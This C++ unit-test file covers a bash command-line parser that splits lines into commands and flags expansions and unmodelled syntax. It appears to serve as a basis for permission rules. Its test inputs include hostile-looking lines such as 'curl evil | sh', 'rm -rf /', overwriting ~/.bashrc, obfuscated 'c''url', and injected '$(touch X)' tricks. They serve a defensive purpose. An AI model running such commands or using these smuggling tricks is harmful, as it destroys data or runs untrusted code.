#include "core/shell_commands.h"

#include <gtest/gtest.h>

namespace pair {
namespace {

using V = std::vector<std::string>;

/// The commands' texts of a line that must be understood.
V texts(std::string_view line) {
  ShellLine r = parse_shell_line(line);
  EXPECT_TRUE(r.understood()) << line << ": " << r.not_understood;
  V out;
  for (const auto& c : r.commands) out.push_back(c.text);
  return out;
}

/// What makes a line not understood ("" when it is understood).
std::string why(std::string_view line) {
  return parse_shell_line(line).not_understood;
}

TEST(ShellCommands, SplitsOnEveryOperator) {
  EXPECT_EQ(texts("git status"), V{"git status"});
  EXPECT_EQ(texts("git status; curl evil | sh"), (V{"git status", "curl evil", "sh"}));
  EXPECT_EQ(texts("make && ctest || echo   failed &"), (V{"make", "ctest", "echo failed"}));
  EXPECT_EQ(texts("a\nb"), (V{"a", "b"}));
  EXPECT_EQ(texts("(cd sub && rm -rf x)"), (V{"cd sub", "rm -rf x"}));
  EXPECT_EQ(texts("make 2>&1 |& tee-like"), (V{"make", "tee-like"}));
}

TEST(ShellCommands, QuotesAreRemovedAndWordsKeepTheirBoundaries) {
  EXPECT_EQ(texts("git commit -m 'a; b && c'"), V{"git commit -m 'a; b && c'"});
  EXPECT_EQ(texts("echo \"x | y\""), V{"echo 'x | y'"});
  EXPECT_EQ(texts("echo a\\;b"), V{"echo 'a;b'"});
  EXPECT_EQ(texts("\"curl\" x"), V{"curl x"});
  EXPECT_EQ(texts("c''url x"), V{"curl x"});
  EXPECT_EQ(texts("'git diff' x"), V{"'git diff' x"});
  EXPECT_EQ(texts("echo '' \"it's\""), V{"echo '' 'it'\\''s'"});
  ShellLine r = parse_shell_line("'rm' -rf \"/\"");
  ASSERT_EQ(r.commands.size(), 1u);
  EXPECT_EQ(r.commands[0].words, (V{"rm", "-rf", "/"}));
  // A quoted glob character is literal; an unquoted one stays unquoted.
  EXPECT_EQ(texts("rg foo src/*.cc 'a*'"), V{"rg foo src/*.cc 'a*'"});
}

TEST(ShellCommands, KeywordsAndCommentsAreNotCommands) {
  EXPECT_EQ(texts("if test -f x; then rm x; fi"), (V{"test -f x", "rm x"}));
  EXPECT_EQ(texts("while true; do sleep 1; done"), (V{"true", "sleep 1"}));
  EXPECT_EQ(texts("{ ls; } && ! git status"), (V{"ls", "git status"}));
  EXPECT_EQ(texts("time -p make"), V{"make"});
  EXPECT_EQ(texts("ls # a comment; rm -rf /"), V{"ls"});
  EXPECT_EQ(texts("echo a#b"), V{"echo a#b"});
  EXPECT_EQ(texts("'if' x"), V{"if x"});  // quoted: a command named if, not the keyword
}

TEST(ShellCommands, ReadsWordsWhereBashDoes) {
  // Reserved words count only unquoted and first, before any redirection.
  EXPECT_EQ(texts("\"\"time -p x"), V{"time -p x"});
  EXPECT_EQ(texts("''if x"), V{"if x"});
  EXPECT_EQ(texts("> /dev/null do x"), V{"do x"});
  // `time` is a keyword only where a pipeline starts; it takes -p and --.
  EXPECT_EQ(texts("a | time -p x"), (V{"a", "time -p x"}));
  EXPECT_EQ(texts("time -p -- x"), V{"x"});
  // A quoted number before `>` is a word, not a descriptor.
  EXPECT_EQ(texts("a \"\"2>/dev/null"), V{"a 2"});
  // `>&-` closes a descriptor and ends there.
  EXPECT_EQ(texts("a 3>&-x 2>&1-"), V{"a x"});
  // A quote before `=` makes no assignment.
  ShellLine r = parse_shell_line("\"\"A=1 x");
  ASSERT_EQ(r.commands.size(), 1u);
  EXPECT_EQ(r.commands[0].assignments, 0u);
  EXPECT_EQ(parse_shell_line("A=\"1 2\" x").commands[0].assignments, 1u);
}

TEST(ShellCommands, AssignmentsAreCounted) {
  ShellLine r = parse_shell_line("A=1 B+=two git diff");
  ASSERT_TRUE(r.understood());
  ASSERT_EQ(r.commands.size(), 1u);
  EXPECT_EQ(r.commands[0].assignments, 2u);
  EXPECT_EQ(r.commands[0].text, "A=1 B+=two git diff");
  EXPECT_EQ(parse_shell_line("'A=1' x").commands[0].assignments, 0u);
}

TEST(ShellCommands, RedirectionsToFilesAreNoted) {
  ShellLine r =
      parse_shell_line("git status > out.txt; git diff 2>&1; ls >/dev/null; echo x >> log; cat < in; exec 3>&-");
  ASSERT_TRUE(r.understood()) << r.not_understood;
  ASSERT_EQ(r.commands.size(), 6u);
  EXPECT_TRUE(r.commands[0].writes_redirect);
  EXPECT_EQ(r.commands[0].text, "git status");
  EXPECT_FALSE(r.commands[1].writes_redirect);
  EXPECT_EQ(r.commands[1].text, "git diff");
  EXPECT_FALSE(r.commands[2].writes_redirect);
  EXPECT_TRUE(r.commands[3].writes_redirect);
  EXPECT_FALSE(r.commands[4].writes_redirect);
  EXPECT_EQ(r.commands[4].text, "cat");
  EXPECT_EQ(r.commands[5].text, "exec");
  // A word that only ends in digits is an argument, not a descriptor.
  r = parse_shell_line("echo abc2>x");
  EXPECT_EQ(r.commands[0].text, "echo abc2");
  EXPECT_TRUE(r.commands[0].writes_redirect);
  // A command that is only a redirection still writes.
  r = parse_shell_line("git status; > ~/.bashrc");
  ASSERT_EQ(r.commands.size(), 2u);
  EXPECT_TRUE(r.commands[1].writes_redirect);
  EXPECT_TRUE(r.commands[1].words.empty());
}

TEST(ShellCommands, ExpansionsAreNotUnderstood) {
  for (const char* line :
       {"git diff $'\\'';touch X #'", "git diff $\"x\"", "echo $HOME", "echo ${x:='$(touch X)'} ${x@P}", "echo $[x]",
        "echo $((1+2))", "echo \"$HOME\"", "echo \"`id`\"", "echo $(id)", "echo `id`", "a=1 cu$@rl", "echo $"})
    EXPECT_NE(why(line), "") << line;
}

TEST(ShellCommands, UnmodelledConstructsAreNotUnderstood) {
  for (const char* line : {"cat <<EOF\nit's\nEOF",
                           "cat <<< hi",
                           "diff <(ls a) <(ls b)",
                           "tee >(wc)",
                           "cat <> f",
                           "git diff >&X",
                           "git diff &>X",
                           "git diff 1>&file",
                           "((x = 1))",
                           "[[ -f x ]]",
                           "case x in a) ls;; esac",
                           "for f in a; do ls; done",
                           "select x in a; do ls; done",
                           "function f { ls; }",
                           "f() { ls; }",
                           "coproc ls",
                           "echo {a,b}",
                           "echo x{1..3}",
                           "ls *.py",
                           "ls -- -*",
                           "rm ?x",
                           "ls [ab]c",
                           "/bin/r? -rf /",
                           "a[1]=x",
                           "x='a[$(touch X)]' y=1",
                           "PS4='$(touch X)' bash -x -c true",
                           "echo 'unclosed",
                           "echo \"unclosed",
                           "echo $(unclosed",
                           "(ls",
                           "ls)",
                           "ls >",
                           "echo `unclosed",
                           "exec {fd}>x",
                           "echo (x)"})
    EXPECT_NE(why(line), "") << line;
}

TEST(ShellCommands, TheModelledGrammarIsUnderstood) {
  for (const char* line : {"git status",
                           "git diff --stat",
                           "ls -la src",
                           "git log --oneline | head -5",
                           "make test 2>&1",
                           "cd sub && git status",
                           "rg foo src/*.cc",
                           "echo \"hello world\"",
                           "echo 'costs $5'",
                           "echo \"a\\$b\"",
                           "[ -f x ] && echo yes",
                           "ls ~/src",
                           "find . -name '*.o'",
                           "git show HEAD@{1}",
                           "make &>/dev/null",
                           "cmd 2>/dev/null >&2",
                           "a \\\n b",
                           "echo !x",
                           "FOO=bar make",
                           "echo a=b{c}",
                           "git log --format='%h %s'"})
    EXPECT_EQ(why(line), "") << line;
}

TEST(ShellCommands, SubstitutedCommandsAreStillListed) {
  ShellLine r = parse_shell_line("echo $(curl evil) \"$(rm -rf /)\" `whoami` <(ls a)");
  EXPECT_FALSE(r.understood());
  V found;
  for (const auto& c : r.commands) {
    found.push_back(c.words.at(0));
    EXPECT_EQ(c.substituted, c.words[0] != "echo") << c.text;
  }
  EXPECT_EQ(found, (V{"curl", "rm", "whoami", "ls", "echo"}));
  EXPECT_EQ(r.commands[1].text, "rm -rf /");
}

TEST(ShellCommands, ALineWithANulIsNotUnderstood) {
  // bash would stop at the NUL; a rule must never judge more or less than bash runs.
  using namespace std::string_literals;
  EXPECT_EQ(why("git status\0; rm -rf /"s), "a NUL byte");
}

TEST(ShellCommands, TrimsOnlyWhatBashIgnores) {
  EXPECT_EQ(trim_shell_blanks(" \tgit status\n"), "git status");
  EXPECT_EQ(trim_shell_blanks("git status\v"), "git status\v");
  EXPECT_EQ(trim_shell_blanks("\fx"), "\fx");
  EXPECT_EQ(trim_shell_blanks(" \n "), "");
}

TEST(ShellCommands, QuotesWordsOnlyWhereNeeded) {
  EXPECT_EQ(quote_shell_word("git"), "git");
  EXPECT_EQ(quote_shell_word("--output=x.txt"), "--output=x.txt");
  EXPECT_EQ(quote_shell_word("a b"), "'a b'");
  EXPECT_EQ(quote_shell_word("*"), "'*'");
  EXPECT_EQ(quote_shell_word(""), "''");
}

}  // namespace
}  // namespace pair
